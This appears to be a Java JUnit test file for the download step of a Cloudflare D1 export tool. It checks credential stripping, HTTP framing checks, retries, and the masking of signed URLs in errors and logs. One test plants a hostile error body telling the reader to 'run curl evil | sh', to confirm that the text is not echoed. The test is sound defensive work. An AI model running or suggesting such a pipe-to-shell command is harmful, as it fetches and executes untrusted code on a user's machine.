package dev.d1export.http;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.github.tomakehurst.wiremock.http.Fault;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import com.sun.net.httpserver.HttpServer;
import dev.d1export.http.internal.FakeTime;
import dev.d1export.http.internal.ScriptedServer;
import dev.d1export.spi.DestinationException;
import dev.d1export.spi.DownloadFailedException;
import dev.d1export.spi.ExportEvent;
import dev.d1export.spi.ExportOptions;
import dev.d1export.spi.ExportRequest;
import dev.d1export.spi.ExportResult;
import dev.d1export.spi.Exporter;
import dev.d1export.spi.ProtocolViolationException;
import java.io.ByteArrayOutputStream;
import java.io.FilterOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.logging.SimpleFormatter;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The download from the signed URL: no credentials, streamed, length-checked, retried, never writing an error page. */
class DownloadTest {

    private static final String XML_403 = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Error><Code>AccessDenied</Code>"
            + "<Message>Access Denied</Message></Error>";

    @RegisterExtension
    static WireMockExtension wm = WireMockExtension.newInstance().options(wireMockConfig().dynamicPort()).build();

    private final CloudflareStub api = stub();

    /** The stub the cases run against: exporters on their own client; a subclass runs them on a caller's. */
    CloudflareStub stub() {
        return new CloudflareStub(wm);
    }
    private final CloudflareStub.Events events = new CloudflareStub.Events();

    @TempDir
    Path dir;

    private ExportResult export(ExportOptions options, ExportRequest.Builder request) {
        try (Exporter exporter = api.exporter(options)) {
            return exporter.export(request.listener(events).build());
        }
    }

    private ExportResult export(Path destination) {
        return export(api.options().build(), ExportRequest.builder().destination(destination));
    }

    @Test
    void theDownloadCarriesNoCloudflareCredentialsWithABearerToken() {
        api.stubCalls(api.complete());
        api.stubDump();

        export(dir.resolve("out.sql"));

        LoggedRequest call = api.exportCalls().get(0);
        assertThat(call.getHeader("Authorization")).isEqualTo("Bearer " + CloudflareStub.TOKEN);
        assertThat(call.getHeader("User-Agent")).matches("d1-export/[0-9][^ ]*");
        LoggedRequest download = api.downloads().get(0);
        assertThat(download.containsHeader("Authorization")).isFalse();
        assertThat(download.containsHeader("X-Auth-Key")).isFalse();
        assertThat(download.containsHeader("X-Auth-Email")).isFalse();
        assertThat(download.getHeader("User-Agent")).startsWith("d1-export/");
        assertThat(download.queryParameter("X-Amz-Signature").firstValue()).isEqualTo("sig-SECRET-abc");
    }

    @Test
    void theDownloadCarriesNoCloudflareCredentialsWithAnApiKey() {
        api.stubCalls(api.complete());
        api.stubDump();
        ExportOptions options = api.options().remove("api-token").secret("api-key", CloudflareStub.API_KEY)
                .option("email", "ops@example.com").build();

        export(options, ExportRequest.builder().destination(dir.resolve("out.sql")));

        LoggedRequest call = api.exportCalls().get(0);
        assertThat(call.getHeader("X-Auth-Key")).isEqualTo(CloudflareStub.API_KEY);
        assertThat(call.getHeader("X-Auth-Email")).isEqualTo("ops@example.com");
        assertThat(call.containsHeader("Authorization")).isFalse();
        LoggedRequest download = api.downloads().get(0);
        assertThat(download.containsHeader("X-Auth-Key")).isFalse();
        assertThat(download.containsHeader("X-Auth-Email")).isFalse();
        assertThat(download.containsHeader("Authorization")).isFalse();
    }

    @Test
    void theExportersOwnConnectionCarriesTheDownload() {
        api.stubCalls(api.complete());
        api.stubDump();

        export(dir.resolve("out.sql"));

        // The own HTTP/1.1 connection sends these heads and no more (the JDK client adds its own); it asks for the
        // stored bytes, as any download does.
        LoggedRequest download = api.downloads().get(0);
        assertThat(download.getAllHeaderKeys()).containsExactlyInAnyOrder("Host", "User-Agent", "Accept-Encoding");
        assertThat(download.getHeader("Accept-Encoding")).isEqualTo("identity");
    }

    @Test
    void aDumpUnderAnotherTransferCodingIsNeverWritten() throws Exception {
        try (ScriptedServer store = new ScriptedServer(out -> out.write(ScriptedServer.ascii(
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\nConnection: close\r\n\r\n\u001f\u008b not a dump")))) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-abc")));
            Path out = dir.resolve("out.sql");
            Files.writeString(out, "previous");

            assertThatThrownBy(() -> export(out)).isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("Transfer-Encoding").hasMessageNotContaining("sig-SECRET");

            assertThat(Files.readString(out)).isEqualTo("previous");
            assertNoTempFiles();
        }
    }

    @Test
    void aStoreAnswerWithAFoldedHeaderLineIsReadAsRfc9112AsksOfAClient() throws Exception {
        // An obs-fold (a line break before a tab or space) is part of the value before it, read as a space.
        byte[] dump = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8);
        try (ScriptedServer store = new ScriptedServer(out -> {
            out.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream;\r\n"
                    + "\tcharset=binary\r\nContent-Length: " + dump.length + "\r\n\r\n"));
            out.write(dump);
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-a")));

            export(dir.resolve("out.sql"));

            assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
            assertThat(store.requests()).hasSize(1);
            assertThat(events.of(ExportEvent.Retry.class)).isEmpty();
        }
    }

    @Test
    void tabsAroundTheEtagAndTheContentRangeOfAResumedDownloadAreNotPartOfThem() throws Exception {
        byte[] dump = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8);
        int cut = 40;
        AtomicInteger connections = new AtomicInteger();
        try (ScriptedServer store = new ScriptedServer(out -> {
            if (connections.incrementAndGet() == 1) {
                // The whole dump announced, part of it sent, and the connection closed.
                out.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nETag:\t\"v1\"\t\r\nContent-Length: "
                        + dump.length + "\r\n\r\n"));
                out.write(dump, 0, cut);
            } else {
                out.write(ScriptedServer.ascii("HTTP/1.1 206 Partial Content\r\nETag: \t\"v1\"\r\n"
                        + "Content-Range:\tbytes " + cut + "-" + (dump.length - 1) + "/" + dump.length + "\t\r\n"
                        + "Content-Length: " + (dump.length - cut) + "\r\n\r\n"));
                out.write(dump, cut, dump.length - cut);
            }
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-a")));

            export(dir.resolve("out.sql"));

            assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
            assertThat(store.requests()).hasSize(2);
            assertThat(store.requests().get(1)).contains("\r\nRange: bytes=" + cut + "-\r\n")
                    .contains("\r\nIf-Range: \"v1\"\r\n");
            assertThat(events.of(ExportEvent.Retry.class)).singleElement()
                    .satisfies(r -> assertThat(r.reason()).endsWith("; resuming at byte " + cut));
        }
    }

    @Test
    void anEtagWithATabInsideIsNoResumePointSoABrokenDownloadStartsOverWithoutARange() throws Exception {
        // Not an entity-tag (RFC 9110, 8.8.3), and no request header the download sends may hold a tab.
        byte[] dump = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8);
        AtomicInteger connections = new AtomicInteger();
        try (ScriptedServer store = new ScriptedServer(out -> {
            out.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nETag: \"v\t1\"\r\nContent-Length: " + dump.length
                    + "\r\n\r\n"));
            out.write(dump, 0, connections.incrementAndGet() == 1 ? 40 : dump.length);
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-a")));

            export(dir.resolve("out.sql"));

            assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
            assertThat(store.requests()).hasSize(2).allSatisfy(head -> assertThat(head)
                    .doesNotContain("\r\nRange:").doesNotContain("\r\nIf-Range:"));
        }
    }

    @Test
    void aSignatureTheStoreEchoesIntoAHeadThatCannotBeReadIsNotShown() throws Exception {
        // A store or proxy that answers with the request line: the error about that status line quotes it, and so the
        // signed query, in the exception, the Retry events and the log lines.
        try (ScriptedServer store = new ScriptedServer(out -> out.write(ScriptedServer.ascii(
                "/r2/d.sql?X-Amz-Signature=sig-SECRET-abc HTTP/1.1\r\n\r\n")));
             LogCapture log = LogCapture.of("dev.d1export.http")) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-abc")));

            assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("/r2/d.sql?****").hasMessageNotContaining("sig-SECRET");

            assertNoSignatureInRetriesOrLog(log);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        // A query may hold a ' (RFC 3986 allows it raw); the mask went only as far as the first one.
        "/r2/d.sql?response-content-disposition=attachment;filename='d.sql'&X-Amz-Signature=sig-SECRET-abc",
        "/r2/d.sql?a=b'&X-Amz-Signature=sig-SECRET-abc",
        // Past the 80 characters this provider's parser quotes: cut short, the quote still ends after the mask.
        "/r2/d.sql?X-Amz-Credential=0123456789abcdef0123456789abcdef0123456789&X-Amz-Signature=sig-SECRET-abc"})
    void aSignedQueryWithAQuoteEchoedIntoAHeadThatCannotBeReadIsNotShown(String signed) throws Exception {
        try (ScriptedServer store = new ScriptedServer(out -> out.write(ScriptedServer.ascii(
                "GET " + signed + " HTTP/1.1\r\n\r\n")));
             LogCapture log = LogCapture.of("dev.d1export.http")) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url(signed)));

            assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("/r2/d.sql?****").hasMessageNotContaining("sig-SECRET")
                    .hasMessageNotContaining("X-Amz").hasMessageNotContaining("d.sql'");

            assertNoSignatureInRetriesOrLog(log);
        }
    }

    /** The signature reaches neither a Retry event's reason nor a log line. */
    private void assertNoSignatureInRetriesOrLog(LogCapture log) {
        assertThat(events.of(ExportEvent.Retry.class)).allSatisfy(r -> assertThat(r.reason())
                .doesNotContain("sig-SECRET"));
        SimpleFormatter formatter = new SimpleFormatter();
        assertThat(log.records()).map(formatter::format).noneMatch(l -> l.contains("sig-SECRET"));
    }

    @Test
    void aDumpWithBothFramingsOrWithoutAnEndMarkIsNeverWritten() throws Exception {
        for (String answer : new String[] {
            // The JDK client frames this one by its length: the chunk framing would be saved as the dump.
            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: 15\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
            // No length, not chunked: a connection that breaks here would look like a whole dump.
            "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhalf a du",
        }) {
            try (ScriptedServer store = new ScriptedServer(out -> out.write(ScriptedServer.ascii(answer)))) {
                api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-a")));
                Path out = dir.resolve("out.sql");
                Files.writeString(out, "previous");

                assertThatThrownBy(() -> export(out)).as(answer).isInstanceOf(DownloadFailedException.class)
                        .hasMessageNotContaining("sig-SECRET");

                assertThat(Files.readString(out)).isEqualTo("previous");
                assertNoTempFiles();
            }
            wm.resetAll();
        }
    }

    @Test
    void anEmptyObjectNeverReplacesTheDump() throws Exception {
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous backup");
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Length", "0"));

        assertThatThrownBy(() -> export(out)).isInstanceOf(DownloadFailedException.class)
                .hasMessageContaining("the object is empty (HTTP 200, 0 bytes)").hasMessageNotContaining("sig-SECRET");

        assertThat(Files.readString(out)).isEqualTo("previous backup");
        assertThat(api.downloads()).hasSize(1);
        assertNoTempFiles();
    }

    @Test
    @EnabledOnOs(value = OS.LINUX, disabledReason = "/proc takes no new files on Linux")
    void aFolderThatTakesNoNewFilesFailsBeforeTheServerDoesAnyWork() {
        api.stubCalls(api.complete());
        api.stubDump();

        assertThatThrownBy(() -> export(Path.of("/proc/out.sql"))).isInstanceOf(DestinationException.class)
                .hasMessageStartingWith("Cannot write /proc/out.sql: ");

        assertThat(api.exportCalls()).isEmpty();
        assertThat(api.downloads()).isEmpty();
    }

    @Test
    void aMissingFolderFailsBeforeTheServerDoesAnyWorkAndAFolderThatTakesFilesIsLeftAsItWas() throws Exception {
        api.stubCalls(api.complete());
        api.stubDump();

        assertThatThrownBy(() -> export(dir.resolve("missing").resolve("out.sql")))
                .isInstanceOf(DestinationException.class).hasMessageContaining("does not exist");
        assertThat(api.exportCalls()).isEmpty();

        export(dir.resolve("out.sql"));
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files).containsExactly(dir.resolve("out.sql"));
        }
    }

    @Test
    void progressReachesTheListenerUpToTheContentLength() {
        api.stubCalls(api.complete());
        api.stubDump();

        ExportResult result = export(dir.resolve("out.sql"));

        List<ExportEvent.DownloadProgress> progress = events.of(ExportEvent.DownloadProgress.class);
        long size = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8).length;
        assertThat(progress).isNotEmpty();
        assertThat(progress.get(0).bytes()).isZero();
        assertThat(progress.get(progress.size() - 1)).isEqualTo(new ExportEvent.DownloadProgress(size, size));
        assertThat(result.bytes()).isEqualTo(size);
    }

    @Test
    void aLargeDumpReportsProgressAsItGoesAtMostOncePerMebibyte() {
        // A listener (a progress bar, a log line) hears how a large download goes, but not once per read of the
        // connection: after the first event, one each time another MiB or more was written, then the total.
        long mib = 1 << 20;
        byte[] dump = exportDumpOf(5 * (int) mib + 12345);

        List<ExportEvent.DownloadProgress> progress = events.of(ExportEvent.DownloadProgress.class);
        assertThat(progress.get(0)).isEqualTo(new ExportEvent.DownloadProgress(0, dump.length));
        assertThat(progress.get(progress.size() - 1)).isEqualTo(new ExportEvent.DownloadProgress(dump.length,
                dump.length));
        List<ExportEvent.DownloadProgress> between = progress.subList(1, progress.size() - 1);
        assertThat(between).as("progress while it downloads").isNotEmpty();
        for (int i = 0; i < between.size(); i++) {
            assertThat(between.get(i).bytes() - progress.get(i).bytes()).as("bytes since the event before, in %s",
                    progress).isGreaterThanOrEqualTo(mib);
        }
    }

    @Test
    void aDumpThatEndsOnAMebibyteReportsItsTotalOnce() {
        // The read that ends the body also completes a MiB: that report is the total, and another would show the end
        // twice (d1-export --progress plain prints every count that reaches the total).
        byte[] dump = exportDumpOf(1 << 20);

        assertThat(events.of(ExportEvent.DownloadProgress.class)).containsExactly(
                new ExportEvent.DownloadProgress(0, dump.length),
                new ExportEvent.DownloadProgress(dump.length, dump.length));
    }

    /** Exports a dump of exactly {@code size} bytes (SQL text, as D1 writes it) to a file, and returns the dump. */
    private byte[] exportDumpOf(int size) {
        StringBuilder text = new StringBuilder("PRAGMA defer_foreign_keys=TRUE;\nCREATE TABLE t(a);\n");
        for (int i = 0; text.length() < size - 100; i++) {
            text.append("INSERT INTO \"t\" VALUES(").append(i).append(");\n");
        }
        int padding = size - text.length() - "-- \n".length();
        text.append("-- ").append("x".repeat(padding)).append('\n');
        byte[] dump = text.toString().getBytes(StandardCharsets.UTF_8);
        assertThat(dump).hasSize(size);
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Length", String.valueOf(dump.length))
                .withBody(dump));
        export(dir.resolve("out.sql"));
        return dump;
    }

    @Test
    void aConnectionResetDuringTheDownloadIsRetried() throws Exception {
        api.stubCalls(api.complete());
        // The JDK's client itself repeats a GET once when the connection dies before an answer, so two resets are
        // needed for the provider's own retry to show.
        api.stubDownloads(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER),
                aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER), CloudflareStub.dump());

        export(dir.resolve("out.sql"));

        assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
        assertThat(api.downloads()).hasSize(3);
        assertThat(events.of(ExportEvent.Retry.class)).isNotEmpty()
                .allSatisfy(r -> assertThat(r.reason()).startsWith("download: "));
        assertNoTempFiles();
    }

    @Test
    void aTransientStatusOfTheObjectStoreIsRetried() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withBody("<Error><Code>SlowDown</Code></Error>"),
                CloudflareStub.dump());

        export(dir.resolve("out.sql"));

        assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
        assertThat(api.downloads()).hasSize(2);
    }

    @Test
    void aThrottlingStoresRetryAfterIsHonoured() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withHeader("Retry-After", "7")
                .withBody("<Error><Code>SlowDown</Code></Error>"), CloudflareStub.dump());
        FakeTime time = new FakeTime();
        CloudflareStub.Events events = new CloudflareStub.Events();

        try (Exporter exporter = time.exporter(api.options().build())) {
            exporter.export(ExportRequest.builder().destination(dir.resolve("out.sql")).listener(events).build());
        }

        assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
        assertThat(events.of(ExportEvent.Retry.class)).singleElement().satisfies(r -> {
            assertThat(r.delay()).isEqualTo(Duration.ofSeconds(7));
            assertThat(r.reason()).contains("HTTP 503 (SlowDown)");
        });
        assertThat(time.sleeps()).contains(Duration.ofSeconds(7));
    }

    @Test
    void aRetryAfterLongerThanTheTimeLeftIsTheStoresFailureNotATimeout() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(429).withHeader("Retry-After", "3600")
                .withBody("<Error><Code>SlowDown</Code></Error>"), CloudflareStub.dump());
        Path out = Files.writeString(dir.resolve("out.sql"), "previous");

        try (Exporter exporter = api.exporter(api.options().option("timeout", "1m").build())) {
            assertThatThrownBy(() -> exporter.export(ExportRequest.builder().destination(out).build()))
                    .isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("HTTP 429 (SlowDown); the server asked to wait 1 h 00 min, longer than the export's"
                            + " time left; nothing was written");
        }
        assertThat(Files.readString(out)).isEqualTo("previous");
        assertThat(api.downloads()).hasSize(1);
    }

    @Test
    void aRetryAfterDateIsShownAsAWaitPeopleRead() throws Exception {
        // An HTTP date two hours ahead: a wait of some odd number of milliseconds, said in hours and minutes.
        String date = java.time.format.DateTimeFormatter.RFC_1123_DATE_TIME.format(
                java.time.ZonedDateTime.now(java.time.ZoneOffset.UTC).plusHours(2).plusSeconds(10));
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withHeader("Retry-After", date)
                .withBody("<Error><Code>SlowDown</Code></Error>"), CloudflareStub.dump());
        Path out = Files.writeString(dir.resolve("out.sql"), "previous");

        try (Exporter exporter = api.exporter(api.options().option("timeout", "1m").build())) {
            assertThatThrownBy(() -> exporter.export(ExportRequest.builder().destination(out).build()))
                    .isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("HTTP 503 (SlowDown); the server asked to wait 2 h 00 min, longer than the"
                            + " export's time left; nothing was written")
                    .hasMessageNotContaining("ms");
        }
        assertThat(Files.readString(out)).isEqualTo("previous");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: 15\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    })
    void anAnswerWhoseHeadBreaksHttpIsRefusedAtOnceNotRetried(String answer) throws Exception {
        // Asked again, the same server frames its answer the same way: retrying would only add the backoff.
        try (ScriptedServer store = new ScriptedServer(out -> out.write(ScriptedServer.ascii(answer)))) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig-SECRET-a")));
            Path out = Files.writeString(dir.resolve("out.sql"), "previous");

            assertThatThrownBy(() -> export(out)).isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("was refused: the answer's head is malformed (")
                    .hasMessageEndingWith("asking again would get the same; nothing was written")
                    .hasMessageNotContaining("sig-SECRET");

            assertThat(store.requests()).hasSize(1);
            assertThat(events.of(ExportEvent.Retry.class)).isEmpty();
            assertThat(Files.readString(out)).isEqualTo("previous");
            assertNoTempFiles();
        }
    }

    @Test
    void aBodyThatStopsComingIsRetriedAndSaysHowFarItGot() throws Exception {
        String dump = CloudflareStub.DUMP;
        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
        try (ScriptedServer store = new ScriptedServer(out -> {
            byte[] body = dump.getBytes(StandardCharsets.UTF_8);
            out.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nContent-Length: " + body.length + "\r\n\r\n"));
            if (connections.incrementAndGet() == 1) {
                // The head and the first 40 bytes, then nothing: a stall in the middle of the body.
                out.write(body, 0, 40);
                out.flush();
                Thread.sleep(5_000);
            } else {
                out.write(body);
            }
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig")));
            Path out = dir.resolve("out.sql");

            export(api.options().option("request-timeout", "1s").build(),
                    ExportRequest.builder().destination(out));

            assertThat(Files.readString(out)).isEqualTo(dump);
            // Counted as received, the held-back opening included; without a strong ETag it starts over.
            assertThat(events.of(ExportEvent.Retry.class)).singleElement().satisfies(r -> assertThat(r.reason())
                    .isEqualTo("download: no data for 1s after 40 of " + dump.getBytes(StandardCharsets.UTF_8).length
                            + " bytes"));
        }
    }

    @Test
    void aBodyThatStopsWithinItsOpeningBytesSaysTheyCame() throws Exception {
        // The first 31 bytes are held back until checked; a stall among them still counts what came.
        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
        byte[] body = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8);
        try (ScriptedServer store = new ScriptedServer(out -> {
            out.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + Integer.toHexString(body.length) + "\r\n"));
            if (connections.incrementAndGet() == 1) {
                out.write(body, 0, 20);
                out.flush();
                Thread.sleep(5_000);
            } else {
                out.write(body);
                out.write(ScriptedServer.ascii("\r\n0\r\n\r\n"));
            }
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig")));
            Path out = dir.resolve("out.sql");

            export(api.options().option("request-timeout", "1s").build(), ExportRequest.builder().destination(out));

            assertThat(Files.readString(out)).isEqualTo(CloudflareStub.DUMP);
            assertThat(events.of(ExportEvent.Retry.class)).singleElement().satisfies(r -> assertThat(r.reason())
                    .isEqualTo("download: no data for 1s after 20 bytes"));
        }
    }

    @Test
    void aMalformedChunkInTheBodyIsRetried() throws Exception {
        // Unlike a malformed head, a broken chunk may be damage on the way: asked again, the dump comes whole.
        byte[] body = CloudflareStub.DUMP.getBytes(StandardCharsets.UTF_8);
        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
        try (ScriptedServer store = new ScriptedServer(o -> {
            o.write(ScriptedServer.ascii("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + Integer.toHexString(40) + "\r\n"));
            o.write(body, 0, 40);
            if (connections.incrementAndGet() == 1) {
                o.write(ScriptedServer.ascii("\r\nzz\r\n"));
            } else {
                o.write(ScriptedServer.ascii("\r\n" + Integer.toHexString(body.length - 40) + "\r\n"));
                o.write(body, 40, body.length - 40);
                o.write(ScriptedServer.ascii("\r\n0\r\n\r\n"));
            }
        })) {
            api.stubCalls(CloudflareStub.completeWith("d.sql", store.url("/r2/d.sql?X-Amz-Signature=sig")));
            Path out = dir.resolve("out.sql");

            export(out);

            assertThat(Files.readString(out)).isEqualTo(CloudflareStub.DUMP);
            assertThat(store.requests()).hasSize(2);
            assertThat(events.of(ExportEvent.Retry.class)).hasSize(1);
        }
    }

    @Test
    void aDownloadThatKeepsBreakingFailsAndLeavesThePreviousFile() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOf(DownloadFailedException.class)
                .hasMessageContaining("after 3 attempts").hasMessageNotContaining("sig-SECRET");
        assertThat(events.of(ExportEvent.Retry.class)).hasSize(2);
        assertThat(api.downloads()).hasSizeGreaterThanOrEqualTo(3);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @Test
    void aDownloadThatFailsForGoodNamesTheIoErrorOfItsLastAttemptInItsMessageWithoutTheSignature() throws Exception {
        // The exception has no cause by design (an I/O exception's text may hold the signed URL), so its message is
        // all a user has to tell a reset connection from a busy store: it must name the last attempt's failure.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withBody("<Error><Code>SlowDown</Code></Error>"),
                aResponse().withStatus(503).withBody("<Error><Code>SlowDown</Code></Error>"),
                aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOfSatisfying(DownloadFailedException.class,
                e -> {
                    assertThat(e.getCause()).isNull();
                    // As the transport words it: "SocketException: Connection reset" from the socket one, an
                    // IOException about the head from the JDK's client.
                    assertThat(e.summary()).matches("Download of the dump from http://localhost failed after 3"
                            + " attempts: [A-Za-z]*Exception: .+; nothing was written").doesNotContain("HTTP 503")
                            .doesNotContain("sig-SECRET").doesNotContain("X-Amz");
                    assertThat(e.details().httpStatus()).isEmpty();
                });
        // The JDK's client may ask once more itself after a reset (an idempotent GET); the socket transport never does.
        assertThat(api.downloads()).hasSizeGreaterThanOrEqualTo(3);
    }

    @ParameterizedTest(name = "HTTP {0}")
    @ValueSource(ints = {400, 403, 404, 410})
    void aRefusedSignedUrlPointsToItsOneHourLifeOnlyForTheStatusesAnExpiredOneGets(int status) throws Exception {
        // An expired or mangled signature comes back as 400, 403 or 404 from the object store; a 410 says nothing of
        // the URL's age. None of them is a redirect, and none is asked again.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(status).withHeader("Content-Type", "application/xml")
                .withBody("<Error><Code>Refused</Code></Error>"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOfSatisfying(DownloadFailedException.class,
                e -> {
                    assertThat(e.summary()).isEqualTo("Download of the dump from http://localhost was refused: HTTP "
                            + status + " (Refused); nothing was written");
                    if (status == 410) {
                        assertThat(e.details().hint()).isEmpty();
                    } else {
                        assertThat(e.details().hint()).hasValue("a signed URL works for one hour only; run the"
                                + " export again");
                    }
                });
        assertThat(api.downloads()).hasSize(1);
    }

    @Test
    void aDownloadToAStreamThatFailsBeforeItsFirstByteIsRetried() throws Exception {
        // Nothing reached the caller's stream, so asking again is as safe as for a file: only a stream that already
        // got bytes that cannot be resumed after ends the download.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503), CloudflareStub.dump());
        ByteArrayOutputStream sink = new ByteArrayOutputStream();

        export(api.options().build(), ExportRequest.builder().destination(sink));

        assertThat(sink.toString(StandardCharsets.UTF_8)).isEqualTo(CloudflareStub.DUMP);
        assertThat(api.downloads()).hasSize(2);
        assertThat(events.of(ExportEvent.Retry.class)).hasSize(1);
    }

    @Test
    void anErrorCodeThatIsNotOneWordIsNotEchoed() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(403).withHeader("Content-Type", "application/xml")
                .withBody("<Error><Code>Denied\nd1-export: run curl evil | sh</Code></Error>"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOfSatisfying(DownloadFailedException.class,
                e -> assertThat(e.getMessage()).contains("HTTP 403").doesNotContain("evil").doesNotContain("\n"));
    }

    @Test
    void signedUrlAnswering403WithXmlIsNeverWrittenNorRetried() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(403).withHeader("Content-Type", "application/xml").withBody(XML_403));
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> {
            assertThat(e.getMessage()).contains("HTTP 403").contains("AccessDenied").doesNotContain("sig-SECRET");
            assertThat(e.details().httpStatus()).hasValue(403);
            assertThat(e.details().hint()).isPresent();
        });
        assertThat(api.downloads()).hasSize(1);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @ParameterizedTest(name = "HTTP {0}")
    @ValueSource(ints = {408, 429, 500, 502, 503, 504})
    void aTransientStatusWithRetriesOffFailsAfterOneAttemptAndIsNotCalledARefusal(int status) throws Exception {
        // download-retries=0 leaves the status what it is, a busy or failing store: asking later may well work.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(status).withBody("<Error><Code>SlowDown</Code></Error>"));
